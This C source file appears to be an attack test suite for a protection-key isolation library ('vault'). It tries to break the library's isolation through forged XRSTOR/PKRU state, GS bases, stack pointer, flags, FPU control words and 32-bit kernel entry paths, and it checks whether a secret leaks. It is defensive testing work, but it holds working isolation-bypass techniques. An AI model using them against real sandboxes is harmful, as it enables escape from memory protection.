/*
 * Attacks by the state of the processor that a library is entered with: forged segment bases, stack pointer,
 * flags and control words; by XRSTOR with rights of the attacker's choice; and by ways into the kernel that
 * no 64-bit program uses.
 */
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

#include "attack.h"
#include "code.h"
#include "portcullis/abi.h"
#include "portcullis/layout.h"
#include "vault.h"

/* ---- trying what may fault --------------------------------------------------------------------------------
 */

static sigjmp_buf after_fault;

static void escape(int signal)
{
	(void)signal;
	siglongjmp(after_fault, 1);
}

/* Calls function(argument), which a signal may end: then it was refused, and nothing else has happened. */
static void attempt(void (*function)(const void *), const void *argument)
{
	static const int signals[] = {SIGSEGV, SIGILL};

	for (unsigned i = 0; i < sizeof(signals) / sizeof(signals[0]); i++)
		signal(signals[i], escape);
	if (!sigsetjmp(after_fault, 1))
		function(argument);
	for (unsigned i = 0; i < sizeof(signals) / sizeof(signals[0]); i++)
		signal(signals[i], SIG_DFL);
}

/* ---- 3: XRSTOR --------------------------------------------------------------------------------------------
 */

/* SDM vol. 1, 13.4: PKRU is state component 9. */
#define COMPONENT_PKRU (1UL << 9)
#define COMPACTED      (1UL << 63)
#define HEADER         512 /* offset in the area */

/* Zeroes mean all rights, wherever in the area the processor looks for PKRU. */
static struct {
	uint8_t legacy[HEADER];
	uint64_t present, compacted;
	uint8_t rest[4096 - HEADER - 16];
} area __attribute__((aligned(64)));

static void restore(const void *unused)
{
	(void)unused;
	__asm__ volatile("xrstor %0" : : "m"(area), "a"((uint32_t)COMPONENT_PKRU), "d"(0));
}

static void restore_supervisor(const void *unused)
{
	(void)unused;
	__asm__ volatile("xrstors %0" : : "m"(area), "a"((uint32_t)COMPONENT_PKRU), "d"(0));
}

static void xrstor(void)
{
	area.present = COMPONENT_PKRU;
	attempt(restore, NULL);
	attack_read_secret();
}

/* A component that is asked for and not there takes its initial value: for PKRU, all rights. */
static void xrstor_initial(void)
{
	attempt(restore, NULL);
	attack_read_secret();
}

static void xrstor_compacted(void)
{
	area.present = COMPONENT_PKRU;
	area.compacted = COMPACTED | COMPONENT_PKRU;
	attempt(restore, NULL);
	attack_read_secret();
}

static void xrstors(void)
{
	area.present = COMPONENT_PKRU;
	area.compacted = COMPACTED | COMPONENT_PKRU;
	attempt(restore_supervisor, NULL);
	attack_read_secret();
}

/* ---- 7: segment bases -------------------------------------------------------------------------------------
 */

/* A thread page of one's own: it says that all protected stacks end in one's own memory. */
static uint64_t own_page[PAGE / sizeof(uint64_t)] __attribute__((aligned(4096)));
static uint8_t own_stack[4 * PAGE] __attribute__((aligned(4096)));

static const void *forge_page(void)
{
	for (unsigned i = 0; i < PAGE / sizeof(uint64_t); i++)
		own_page[i] = (uint64_t)(own_stack + sizeof(own_stack));
	own_page[0] = 0;
	return own_page;
}

/* What the library leaves on the stack that it was given. */
static void use_forged_stack(void)
{
	const void *left = (const void *)vault_stack();

	attack_search(own_stack, sizeof(own_stack));
	attack_found(left);
}

static void write_gs_base(const void *page)
{
	__asm__ volatile("wrgsbase %0" : : "r"(page));
}

static void gs_base(void)
{
	attempt(write_gs_base, forge_page());
	use_forged_stack();
}

#define ARCH_SET_GS 0x1001

static void gs_by_system_call(void)
{
	syscall(SYS_arch_prctl, ARCH_SET_GS, forge_page());
	use_forged_stack();
}

/* A selector loads its descriptor's base, which is 0; what would have to be there cannot be mapped. */
static void load_gs(const void *selector)
{
	__asm__ volatile("mov %0, %%gs" : : "r"((uint32_t)(uintptr_t)selector));
}

static void gs_null(void)
{
	attempt(load_gs, NULL);
	use_forged_stack();
}

static void gs_selector(void)
{
	uint32_t selector;

	__asm__("mov %%ss, %0" : "=r"(selector));
	attempt(load_gs, (const void *)(uintptr_t)selector);
	use_forged_stack();
}

/* ---- 7: stack pointer -------------------------------------------------------------------------------------
 */

/* Calls `function` with RSP = stack and RBX = RBP = value. */
static void call_on(void (*function)(void), uint64_t stack, uint64_t value)
{
	__asm__ volatile("push %%rbx\n"
	                 "push %%rbp\n"
	                 "mov %%rsp, %%r12\n"
	                 "mov %[value], %%rbx\n"
	                 "mov %[value], %%rbp\n"
	                 "mov %[stack], %%rsp\n"
	                 "call *%[function]\n"
	                 "mov %%r12, %%rsp\n"
	                 "pop %%rbp\n"
	                 "pop %%rbx"
	                 : [function] "+a"(function), [stack] "+c"(stack), [value] "+d"(value)
	                 :
	                 : "memory", "cc", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "xmm15");
}

/* The library's own pushes are to hit its data, in front of the buffer for copies. */
static void stack_pointer(void)
{
	call_on(vault_push, vault_copy_address() - 64, 0x5041);
	if (vault_intact() != 1)
		attack_gained("the library's data have changed");
}

/* ---- 7: flags ---------------------------------------------------------------------------------------------
 */

#define BACKWARDS 256 /* bytes: fewer than lie in front of the library's buffer */

static void direction_flag(void)
{
	char from[2 * BACKWARDS], to[2 * BACKWARDS];

	memset(from, 1, sizeof(from));
	__asm__ volatile("sub $128, %%rsp\n" /* below the red zone */
	                 "std\n"
	                 "call vault_copy\n"
	                 "cld\n"
	                 "add $128, %%rsp"
	                 :
	                 : "D"(to + BACKWARDS), "S"(from + BACKWARDS), "d"(BACKWARDS)
	                 : "memory", "cc", "rax", "rcx", "r8", "r9", "r10", "r11", "xmm15");
	if (vault_intact() != 1)
		attack_gained("the library's data have changed");
}

#define RFLAGS_TF 0x100UL
#define RFLAGS_AC 0x40000UL

static void set_flags(uint64_t flags, bool on)
{
	__asm__ volatile("sub $128, %%rsp\n" /* below the red zone */
	                 "pushfq\n"
	                 "and %[keep], (%%rsp)\n"
	                 "or %[set], (%%rsp)\n"
	                 "popfq\n"
	                 "add $128, %%rsp"
	                 :
	                 : [keep] "r"(~flags), [set] "r"(on ? flags : 0)
	                 : "memory", "cc");
}

/* In ring 0 the flag lifts SMAP; elsewhere it may make the library trip over its own data. */
static void alignment_check(void)
{
	char text[] = " deposit", copy[16];
	int pipes[2];

	if (pipe(pipes))
		attack_refused_by("pipe", -1);
	set_flags(RFLAGS_AC, true);
	vault_copy(copy + 1, text + 1, sizeof(text) - 1);
	if (write(pipes[1], attack_secret_address(), 16) == 16 && read(pipes[0], copy, 16) == 16)
		attack_found(copy);
	set_flags(RFLAGS_AC, false);
}

#define STEPS     2048
#define REGISTERS 16

static uint64_t steps[STEPS][REGISTERS];
static unsigned step_count;

static void keep_registers(int signal, siginfo_t *info, void *context)
{
	const greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;

	(void)signal;
	(void)info;
	for (unsigned i = 0; i < REGISTERS; i++)
		steps[step_count % STEPS][i] = (uint64_t)registers[i];
	step_count++;
}

/* Single steps through the library show its registers. */
static void trap_flag(void)
{
	struct sigaction action = {.sa_sigaction = keep_registers, .sa_flags = SA_SIGINFO};

	sigaction(SIGTRAP, &action, NULL);
	set_flags(RFLAGS_TF, true);
	vault_wait(10);
	set_flags(RFLAGS_TF, false);
	for (unsigned i = 0; i < step_count && i < STEPS; i += 64)
		attack_search(steps[i], 64 * sizeof(steps[0]));
}

static void look_at_ring(int signal, siginfo_t *info, void *context)
{
	uint16_t code;

	(void)signal;
	(void)info;
	(void)context;
	__asm__ volatile("mov %%cs, %0" : "=r"(code));
	if ((code & 3) != 3)
		attack_gained("a handler in the kernel's ring");
}

/* The trap of the single step is due where the kernel has just been entered. */
static void trap_in_system_call(void)
{
	struct sigaction action = {.sa_sigaction = look_at_ring, .sa_flags = SA_SIGINFO};
	long number = SYS_getpid;

	sigaction(SIGTRAP, &action, NULL);
	set_flags(RFLAGS_TF, true);
	__asm__ volatile("syscall" : "+a"(number) : : "memory", "rcx", "r11");
	set_flags(RFLAGS_TF, false);
}

/* MOV SS puts it off by one instruction more. */
static void trap_put_off(void)
{
	struct sigaction action = {.sa_sigaction = look_at_ring, .sa_flags = SA_SIGINFO};
	long number = SYS_getpid;

	sigaction(SIGTRAP, &action, NULL);
	set_flags(RFLAGS_TF, true);
	__asm__ volatile("mov %%ss, %%ecx\n"
	                 "mov %%ecx, %%ss\n"
	                 "syscall"
	                 : "+a"(number)
	                 :
	                 : "memory", "rcx", "r11");
	set_flags(RFLAGS_TF, false);
}

/* ---- 7: control words -------------------------------------------------------------------------------------
 */

static void judge_numbers(void)
{
	long right = vault_numbers();

	__asm__ volatile("fninit");
	if (right != 1)
		attack_gained("the library calculates wrongly");
}

/* Rounds up, takes small numbers for 0. */
static void mxcsr(void)
{
	static const uint32_t forged = 0xdfc0, usual = 0x1f80;
	long right;

	__asm__ volatile("ldmxcsr %0" : : "m"(forged));
	right = vault_numbers();
	__asm__ volatile("ldmxcsr %0" : : "m"(usual));
	if (right != 1)
		attack_gained("the library calculates wrongly");
}

/* Single precision. */
static void x87_control(void)
{
	static const uint16_t forged = 0x007f;

	__asm__ volatile("fldcw %0" : : "m"(forged));
	judge_numbers();
}

/* No room for an operand. */
static void x87_stack(void)
{
	__asm__ volatile("fldz; fldz; fldz; fldz; fldz; fldz; fldz; fldz");
	judge_numbers();
}

/* ---- 11: ways of 32-bit programs --------------------------------------------------------------------------
 */

#define WRITE_32 4

static void interrupt_80(void)
{
	long result = WRITE_32;

	__asm__ volatile("int $0x80"
	                 : "+a"(result)
	                 : "b"(1), "c"(attack_secret_address()), "d"(16)
	                 : "memory");
	attack_gained("a system call of 32-bit programs");
}

static void enter_system(const void *unused)
{
	(void)unused;
	__asm__ volatile("sysenter" : : "a"(WRITE_32) : "memory", "rcx", "rdx");
	attack_gained("SYSENTER enters the kernel");
}

static void sysenter(void)
{
	attempt(enter_system, NULL);
}

/* Far returns by each selector of the GDT, and some of an LDT, to an INT3. */
static const uint8_t *far_target;

static void far_return(const void *selector)
{
	__asm__ volatile("push %0; push %1; lretq" : : "r"(selector), "r"(far_target) : "memory");
}

static void judge_segment(int signal, siginfo_t *info, void *context)
{
	uint16_t code = (uint16_t)((ucontext_t *)context)->uc_mcontext.gregs[REG_CSGSFS], own;

	(void)signal;
	(void)info;
	__asm__("mov %%cs, %0" : "=r"(own));
	if (code != own)
		attack_gained("code in another segment");
	siglongjmp(after_fault, 1);
}

static void segments(void)
{
	struct sigaction action = {.sa_sigaction = judge_segment, .sa_flags = SA_SIGINFO};
	uint8_t *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (page == MAP_FAILED)
		attack_refused_by("mmap", -1);
	memset(page, 0xcc, PAGE);
	code_finish(page, 1);
	far_target = page;
	sigaction(SIGTRAP, &action, NULL);
	for (uintptr_t selector = 0; selector < 0x100; selector++)
		attempt(far_return, (const void *)selector);
}

static void local_segments(void)
{
	struct {
		uint32_t entry, base, limit, flags;
	} descriptor = {0, 0, 0xfffff, 0x51};

	attack_refused_by("modify_ldt", syscall(SYS_modify_ldt, 1, &descriptor, sizeof(descriptor)));
}

static const struct attack attacks[] = {
        {"xrstor", xrstor},
        {"xrstor-initial", xrstor_initial},
        {"xrstor-compacted", xrstor_compacted},
        {"xrstors", xrstors},
        {"gs-base", gs_base},
        {"gs-by-system-call", gs_by_system_call},
        {"gs-null", gs_null},
        {"gs-selector", gs_selector},
        {"stack-pointer", stack_pointer},
        {"direction-flag", direction_flag},
        {"alignment-check", alignment_check},
        {"trap-flag", trap_flag},
        {"trap-in-system-call", trap_in_system_call},
        {"trap-put-off", trap_put_off},
        {"mxcsr", mxcsr},
        {"x87-control", x87_control},
        {"x87-stack", x87_stack},
        {"interrupt-80", interrupt_80},
        {"sysenter", sysenter},
        {"segments", segments},
        {"local-segments", local_segments},
        {0},
};

int main(int argc, char **argv)
{
	return attack_main(argc, argv, attacks);
}
